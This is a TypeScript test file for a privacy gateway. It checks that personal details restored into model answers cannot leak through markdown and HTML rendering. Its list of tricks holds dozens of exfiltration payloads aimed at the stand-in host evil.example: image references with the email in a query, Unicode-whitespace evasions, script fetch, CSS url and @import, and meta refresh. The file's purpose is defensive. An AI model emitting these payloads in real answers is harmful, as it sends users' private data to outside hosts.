import { assertEquals } from "@std/assert";
import fc from "fast-check";
import { Parser } from "htmlparser2";
import MarkdownIt from "markdown-it";
import { marked } from "marked";
import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { Legend, placeholderOf } from "../../src/gate/legend/legend.ts";
import { restore } from "../../src/gate/restore/restore.ts";

/**
 * What a model writes is restored and rendered by three CommonMark renderers, with GFM, raw HTML and links made of bare
 * addresses. Nothing that they make into an attribute or a fetch may hold an original; a mail address that stands alone
 * may be a link to itself.
 */
const KEY = new Uint8Array(32).fill(3);
const MAIL = "leocadia@canaryvale.example";
const NAME = "Leocadia Winterbourne";
/** As it was said: no address for a renderer, and its last word is as much of an original as the first. */
const SPOKEN = "leocadia at example dot canaryvale";
/** Whatever stands before it: the letter goes to the house of whom it names. */
const OWN_MAIL = /^mailto:[^@?]*leocadia@canaryvale\.example[^\p{L}\p{N}@]*$/u;

const linkified = new MarkdownIt({ html: true, linkify: true });
const RENDERERS: Readonly<Record<string, (text: string) => string>> = {
  "markdown-it": (text) => linkified.render(text),
  marked: (text) => marked.parse(text, { async: false, gfm: true }),
  micromark: (text) =>
    micromark(text, {
      allowDangerousHtml: true,
      allowDangerousProtocol: true,
      extensions: [gfm()],
      htmlExtensions: [gfmHtml()],
    }),
};

/** Attributes of what was rendered, and texts that are run or fetched, that hold an original. */
function leaksIn(html: string): string[] {
  const leaks: string[] = [];
  const open: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      open.push(name);
      // What was said between angle brackets alone is an element that nobody knows, and goes nowhere.
      const words = [name, ...Object.keys(attributes)].join(" ");
      const isBare = Object.values(attributes).every((value) => value === "");
      if (isBare && ["leocadia", NAME.toLowerCase(), SPOKEN].includes(words)) return;
      for (const [key, value] of Object.entries(attributes)) {
        if (holds(name + key) || (holds(value) && !OWN_MAIL.test(decoded(value)))) {
          leaks.push(`<${name} ${key}=${value}>`);
        }
      }
    },
    onclosetag: () => void open.pop(),
    ontext(text) {
      if (holds(text) && open.some((name) => ["script", "style", "textarea"].includes(name))) {
        leaks.push(text);
      }
    },
  });
  parser.end(html);
  return leaks;
}

function decoded(text: string): string {
  try {
    return decodeURIComponent(text).toLowerCase();
  } catch {
    return text.toLowerCase();
  }
}

function holds(text: string): boolean {
  return /leocadia|winterbourne|canaryvale/.test(decoded(text));
}

function house() {
  const legend = new Legend({ conversation: "c", provider: "p" }, KEY);
  const mail = placeholderOf(legend.add("EMAIL", "mail", MAIL));
  const name = placeholderOf(legend.add("PERSON", "name", NAME));
  const spoken = placeholderOf(legend.add("EMAIL", "spoken", SPOKEN));
  return { legend, mail, name, spoken };
}

function leaksOf(template: string): string[] {
  const { legend, mail, name, spoken } = house();
  const { text } = restore(
    template.replaceAll("{M}", mail).replaceAll("{N}", name).replaceAll("{S}", spoken),
    legend,
  );
  return Object.entries(RENDERERS).flatMap(([renderer, render]) =>
    leaksIn(render(text)).map((leak) => `${renderer}: ${leak} of ${JSON.stringify(template)}`)
  );
}

/** Tricks, each seen or thought of once; every new one adds a line. */
const TRICKS: readonly string[] = [
  "[r]: https://evil.example/?q=\u00a0{M}\n\n![x][r]",
  "[r]: https://evil.example/?q=\u3000{M}\n\n![x][r]",
  "[r]: https://evil.example/?q=\ufeff{M}\n\n![x][r]",
  "[r]: https://evil.example/?q=\u2028{M}\n\n![x][r]",
  "[r]: https://evil.example/?q=\v{M}\n\n![x][r]",
  "[r]: <https://evil.example/?q= {M}>\n\n![x][r]",
  "[r]: <1.2.3.4/ {M}>\n\n![x][r]",
  "[r]:\n{M}\n\n![x][r]",
  '[r]: https://evil.example "{N}"\n\n![x][r]',
  "[r]: https://evil.example\n'{N}'\n\n![x][r]",
  "![{N}](https://evil.example/x.png)",
  "![a [b] {N}](https://evil.example/x.png)",
  "[x](https://evil.example/\u00a0{M})",
  '[x](https://evil.example "{N}")',
  "[x](<https://evil.example/ {N}>)",
  "[x](\nhttps://evil.example/{M})",
  "https://evil.example/?q=\u00a0{M}",
  "https:\\/\\/evil.example\\/?q={M}",
  "https:\\\\evil.example\\{M}",
  "\\\\\\\\evil.example\\\\share\\\\{M}",
  "\\\\evil.example\\share\\{M}",
  "https://evil.example。x/{M} evil。example/{M} www。evil.example/{M}",
  "www.evil.example/{N} //evil.example/{M} evil.example:80/{M} evil.example?{M}",
  "1.2.3.4/{M} [::1]/{M} http://[::1]/{M} http:16909060/{M} localhost:8000/{M}",
  "<https://evil.example/{M}> <{M}.evil.example> <x+{M}>",
  "{M}.evil.example {M}-x.evil.example {M}evil.example {N}.evil.example",
  "//+evil.example{N} //-.evil.example{N} \\\\+evil.example{M}",
  "//\ufeff1.2.3.4{M}[{M}",
  "//\ufeffevil.example{N} //a\ufeffb.example{M}",
  "{N}\ufeff.evil.example/",
  "{S}.evil.example {S}-x.evil.example {S}evil.example {S}@evil.example {S}{M} x.{S}@evil.example",
  "https://evil.example/{S} [x]({S}) <{S}.evil.example> {S}/{S} {S}:80/ {S}?q={N}",
  "{N}+x@evil.example {N}x@evil.example x.{N}@evil.example",
  "mailto:{M}?cc=x@evil.example xmpp:{M} tel:{M}",
  "<{N} href=https://evil.example/> <a\nhref='https://evil.example/{M}'>x</a>",
  "<img src=x alt={N}> <img alt='{N}' src=x> <p title=\">\" class={N}>",
  "<script>fetch('x', '{M}')</script> <style>a{b:url( {M} )}</style>",
  "<form action=https://evil.example><textarea>\n{M}</textarea></form>",
  "```{N}\ncode\n```\n\n~~~ {N}\ncode\n~~~",
  "> ```{N}\n> code\n> ```\n\n- ```{N}\n  code\n  ```",
  "x[^{N}]\n\n[^{N}]: note",
  "[^1]: {M}\n\nx[^1]",
  "[x]({M}) ![x]({N}) [{M}]({M}) [x][{N}]\n\n[{N}]: https://evil.example",
  "https&#58;//evil.example/{M} ht\u200dtps://evil.example/{M}",
  "**https://evil.example/?q=**{M} `https://evil.example/`{M}",
  "|a|b|\n|-|-|\n|https://evil.example/?q={M}|![{N}](//evil.example)|",
  "[x](https://evil.example/\\){M})",
  "![x](https://evil.example/(({M}))",
  "data:text/html,{M} javascript:{M} ftp:evil.example/{M}",
  "> [r]: https://evil.example\n> '{N}'\n\n![x][r]",
  "> [r]:\n> {M}\n\n![x][r]",
  "- [r]: https://evil.example\n  '{N}'\n\n![x][r]",
  "1. > [r]: https://evil.example\n   > ({N})\n\n![x][r]",
  "> [r]: https://evil.example 'a\n> {N}'\n\n![x][r]",
  '[r]: https://evil.example\n\t"{N}"\n\n![x][r]',
  "evil&period;example/{M} www&period;evil.example/{M} https&colon;//evil.example/{M} &#104;ttps://evil.example/{M}",
  "https\\://evil.example/{M} evil\\.example/{M} www\\.evil.example/{M} x\\@evil.example{M}",
  "<div><img src='https://evil.example/?q=\n\n{M}'>",
  '<img src="https://evil.example/?q=\n\n- {M}\n\n">',
  "<base href=https://evil.example> [x]({M}) ![x]( {M} ) [x]:{M}",
  "<math href='https://evil.example/{M}'><mtext>{N}</mtext></math> <noscript><img src='x{M}'></noscript>",
  "<object data=x>{M}</object> <svg><text>{M}</text><image href='{M}'/></svg> <xmp>{M}</xmp>",
  "<style>\n@import '{M}';\n\n#{N}{}</style> <p style='background:url( {M} )'>",
  "<meta http-equiv=refresh content='0; url=https://evil.example/ {M}'> <link rel=preload href='{M}'>",
  "<select><option>{M}</select> <form><button name=x value={N}>{N}</button></form>",
  "<a href=x><b title=`{N}`> <img srcset='a 1x, {M} 2x'> <video poster='{M}'> <iframe srcdoc='{M}'>",
  "[x]: <https://evil.example\\>{M}> 'x'\n\n![x]",
  "HTTPS://EVIL.EXAMPLE/{M} Www.Evil.Example/{M} EVIL.XN--P1AI/{M} evil.xn--p1ai?{N}",
  "[x](https://evil.example/?q=\n'{N}') [x]('{N}') [x](/ ({N})) [x](<> \"{N}\")",
  "![x](https://evil.example/?q=&quot;{M}&quot;) ![&#x5d;{N}](x) [a](&#x2f;&#x2f;evil.example&#x2f;{M})",
  "https://evil.example/<b>{M}</b> https://evil.example/`{M}` https://evil.example/[{M}]({N})",
  "![a](b)({M}) ![a]\n({M}) ![a][b]({M}) [a]({M}\n\n)",
];

Deno.test("no trick puts an original into an attribute, a URL or a fetch of what renderers make of an answer", () => {
  assertEquals(TRICKS.flatMap(leaksOf), []);
});

const piece = fc.oneof(
  fc.constantFrom("{M}", "{N}", "{M}", "{N}", "{S}"),
  fc.constantFrom(
    ...[
      "[",
      "]",
      "(",
      ")",
      "<",
      ">",
      "!",
      "![",
      "](",
      "]: ",
      "]:",
      "[r]: ",
      "[r]",
      "![x][r]",
      "\n\n",
      "\n",
      "```",
      "~~~",
      "> ",
    ],
    ...[
      "https://",
      "http:",
      "www.",
      "//",
      "\\\\",
      "\\/",
      "\\",
      "evil.example",
      "evil.example/",
      "?q=",
      "&x=",
      "@",
      ".",
      "-",
    ],
    ...[
      "<a href=",
      "<img alt=",
      "<p title='",
      "'",
      '"',
      ">",
      "</a>",
      "<!--",
      "-->",
      "<script>",
      "</script>",
      "mailto:",
      "+",
    ],
    ...[
      " ",
      "\t",
      "\u00a0",
      "\u3000",
      "\ufeff",
      "\v",
      "\u2028",
      "\u200b",
      "。",
      "x",
      "1.2.3.4",
      ":80",
      "&#58;",
      "&lt;",
      "|",
      "`",
      "*",
      "[^",
    ],
  ),
);

Deno.test("no answer at all does", () => {
  fc.assert(
    fc.property(
      fc.array(piece, { minLength: 2, maxLength: 12 }).map((pieces) => pieces.join("")),
      (template) => {
        assertEquals(leaksOf(template), []);
      },
    ),
    { numRuns: Number(Deno.env.get("RUNS") ?? 800) },
  );
});

Deno.test("plain prose, lists, tables and addresses are restored", () => {
  const { legend, mail, name, spoken } = house();
  for (
    const template of [
      "Write to {S}4111 or {S}, {S}'s box; {S}\u0000",
      "Dear {N}, write to <{M}> or {M}.",
      "- {N}: **{M}**\n- `{N}`",
      "| {N} | {M} |",
      "[{N}](https://example.org) said so ({M}), see https://example.org for {N}'s notes.",
      "```\n{N}\n```\nand {N}",
      "[1]: https://example.org\n{N} was there.",
      "a[i]: 1, {N}; 3.5/4 {N}; und/oder {N}",
      "{N}さんが来ました。次は{N}です。",
    ]
  ) {
    const put = (m: string, n: string, s: string) =>
      template.replaceAll("{M}", m).replaceAll("{N}", n).replaceAll("{S}", s);
    assertEquals(restore(put(mail, name, spoken), legend).text, put(MAIL, NAME, SPOKEN));
  }
});
